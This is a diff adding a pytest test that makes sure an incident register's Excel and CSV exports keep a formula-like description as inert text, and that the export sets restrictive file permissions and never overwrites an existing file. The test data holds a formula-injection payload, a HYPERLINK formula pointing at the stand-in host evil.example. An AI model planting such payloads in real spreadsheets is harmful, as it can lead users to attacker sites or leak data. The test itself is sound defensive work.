@@ -99,3 +99,27 @@ def test_retention_purges_an_old_closed_incidents_personal_data(tmp_path):
         assert audit_states.verify_rows(reg.db) == [] and audit.verify_chain(reg.db) == []
     finally:
         reg.close()
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_an_exported_description_that_looks_like_a_formula_stays_text(reg, tmp_path, suffix):
+    """A breach described as "=HYPERLINK(...)" (pasted, or typed by someone hostile) is text
+    in the export, never a formula Excel would run."""
+    hostile = '=HYPERLINK("http://evil.example/?x","Open")'
+    incidents.add_incident(reg, detected=datetime(2026, 3, 6, 19, 40), what=hostile,
+                           measures="Ссылка закрыта")
+    out = tmp_path / f"incidents{suffix}"
+    assert incidents.export_incidents(reg, out)["count"] == 1
+    assert oct(out.stat().st_mode & 0o777) == "0o600"
+    if suffix == ".xlsx":
+        from openpyxl import load_workbook
+
+        cell = load_workbook(out)["incidents"]["C2"]
+        assert (cell.value, cell.data_type) == (hostile, "s")
+    else:
+        import csv
+
+        rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
+        assert rows[1][2] == "'" + hostile
+    with pytest.raises(Exception):  # noqa: B017 - an existing file is never replaced
+        incidents.export_incidents(reg, out)
